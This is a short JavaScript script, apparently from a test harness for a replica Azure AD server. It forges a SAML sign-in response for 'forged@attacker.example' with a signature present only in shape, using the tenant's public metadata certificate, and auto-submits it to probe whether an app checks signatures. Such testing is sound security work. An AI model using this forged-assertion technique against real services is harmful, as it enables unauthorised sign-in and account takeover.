// A forged sign-in result: the app's entity ID and certificate are public (its metadata, which
// this replica server serves on any host), the Signature element is there in shape only.
import { azureResponse, certificatesOf } from '/_shared/saml-response.js';

const tenant = '81c1df79-e153-4f9d-a101-8dcf04af6c2c';
const metadata = await (await fetch(`/${tenant}/federationmetadata/2007-06/federationmetadata.xml?appid=2f6c1a3e-8d4b-4b7e-9a51-6c0d3e7b9f21`)).text();
const [, active] = certificatesOf(metadata);
const now = Date.now();
const xml = azureResponse({ tenant, now, certificate: active, nameId: 'forged@attacker.example', notBefore: now - 60_000, notAfter: now + 3600_000 });
const form = document.querySelector('form');
form.elements.SAMLResponse.value = btoa(xml);
form.submit();
